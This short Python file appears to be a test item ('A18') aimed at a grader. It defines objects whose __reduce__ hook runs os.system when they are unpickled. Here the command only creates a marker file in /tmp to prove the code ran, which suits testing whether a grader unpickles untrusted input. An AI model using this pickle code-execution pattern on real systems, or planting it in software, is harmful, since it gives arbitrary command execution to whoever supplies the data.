# A18 hands over objects that run code when they are unpickled
# fault: any
class Payload:
    def __reduce__(self):
        import os
        return (os.system, ("touch /tmp/unpickled-by-the-grader",))
class Names(str):
    __reduce__ = Payload.__reduce__
def attack():
    return Payload(), Names("payload")
